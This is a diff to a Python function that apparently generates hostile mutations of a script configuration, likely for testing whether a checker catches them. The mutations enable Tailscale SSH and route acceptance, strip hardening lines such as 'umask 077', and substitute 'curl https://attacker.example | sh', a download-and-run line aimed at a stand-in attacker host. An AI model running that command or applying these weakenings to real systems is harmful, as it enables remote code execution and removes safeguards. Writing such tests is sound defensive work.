@@ -205,7 +205,7 @@ def _script(path: tuple[str | int, ...], value: Any) -> Iterator[Change]:
     text = json.dumps(value)
     for match in re.finditer(r"--(ssh|accept-routes|accept-dns)=false", text):
         yield path, f"switch {match[0]}", json.loads(text.replace(match[0], match[0].replace("false", "true")))
-    for line in ("umask 077", "rm -f /run/tailscale-key"):
+    for line in ("umask 077", "FailureAction=poweroff", "file.unlink()"):
         yield path, f"drop {line}", json.loads(text.replace(line, ""))
     yield path, "change", "curl https://attacker.example | sh"
 
